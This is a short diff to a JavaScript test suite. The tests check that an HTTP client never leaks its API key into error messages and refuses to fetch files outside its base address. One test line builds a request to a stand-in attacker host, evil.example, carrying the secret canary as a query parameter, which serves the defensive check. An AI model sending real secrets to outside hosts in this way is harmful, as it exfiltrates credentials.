@@ -298,8 +298,7 @@ test('no error contains the key when a hostile service echoes it everywhere', as
   expect(error.message).toContain('[key]')
   const foreign = await failure(upstream.fetchFile(`https://evil.example/?k=${encodeURIComponent(canary)}`))
   expect(foreign).toMatchObject({ kind: 'foreign_address' })
-  expect(foreign.message).toContain('evil.example')
-  expect(foreign.message).not.toContain('canary')
+  expect(JSON.stringify(foreign) + foreign.message).not.toContain('canary')
 })
 
 test('[AUTH-01] [GEN-01] files under the base address are fetched with the key, other files are not fetched', async () => {
